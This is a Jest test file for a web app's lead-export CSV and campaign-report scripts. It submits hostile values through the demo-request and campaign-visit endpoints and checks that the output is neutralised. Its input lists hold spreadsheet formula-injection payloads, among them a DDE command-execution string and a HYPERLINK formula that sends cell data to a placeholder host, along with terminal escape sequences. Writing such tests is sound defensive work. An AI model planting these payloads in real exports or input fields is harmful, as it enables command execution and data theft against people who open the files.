import { execFile } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { promisify } from 'node:util';
import * as campaignVisits from '@/app/api/campaign-visits/route';
import * as demoRequests from '@/app/api/demo-requests/route';
import { openDatabase } from '@/lib/db/client';
import { createVisitor } from '../support/handler-visitor';
import { PAYLOADS } from '../support/script-payloads';

const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  ' =1+1',
  '\u00a0=1+1',
  '\t=1+1',
  '\u3000＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("https://evil.example?"&A1,"x")`,
  `=1+1";=1+1`,
  '"=1+1"',
  `'=1+1`,
];
const TERMINAL = ['\u001b[2J', '\u001b]0;title\u0007', '\u009b31m', 'a\u0008b', '\u202eabc'];

// Every report runs in a child process.
jest.setTimeout(30_000);

const run = async (script: string) =>
  (await promisify(execFile)(process.execPath, [script], { env: process.env })).stdout;

/** Values of a CSV as a spreadsheet parses them. */
function readCells(csv: string): string[] {
  const cells = csv.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g);
  return [...cells].map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '');
}

test('a prospect’s text is never a formula in a spreadsheet', async () => {
  for (const text of [...FORMULAS, ...PAYLOADS]) {
    const body = {
      requestId: randomUUID(),
      userId: 1,
      name: text,
      company: text,
      message: text,
      email: 'ann@company.example',
      persona: { segment: 'developer', cluster: 'explorer', visitor: 'new' },
      campaign: { utm_source: text },
      firstCampaign: { gclid: text },
    };
    const { status } = await createVisitor().call(demoRequests.POST, 'POST', { body });
    expect([201, 400]).toContain(status);
  }
  const csv = await run('scripts/leads-export.mjs');
  const cells = readCells(csv);
  expect(cells).toContain(`'=1+1`);
  expect(cells.filter((cell) => /^[\s\u3000]*[=+\-@＝＋－＠]/.test(cell))).toEqual([]);
});

test('the campaign report contains no terminal escapes or markup', async () => {
  for (const text of [...TERMINAL, ...FORMULAS, ...PAYLOADS]) {
    const body = { utm_campaign: text, utm_content: text, utm_term: text };
    const { status } = await createVisitor().call(campaignVisits.POST, 'POST', {
      body,
      headers: { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Chrome/140.0.0.0 Safari/537.36' },
    });
    expect(status).toBe(200);
  }
  const rows = await (await openDatabase()).campaignVisit.findMany();
  expect(rows.map(({ name }) => name)).toContain('(unreadable)');
  const report = await run('scripts/campaigns-report.mjs');
  const isObeyed = (text: string) => /[\p{Cc}\p{Cf}]/u.test(text.replaceAll('\n', ''));
  expect(isObeyed(TERMINAL.join(''))).toBe(true);
  expect(isObeyed(report)).toBe(false);
  expect(report).not.toMatch(/[<>@]/);
});
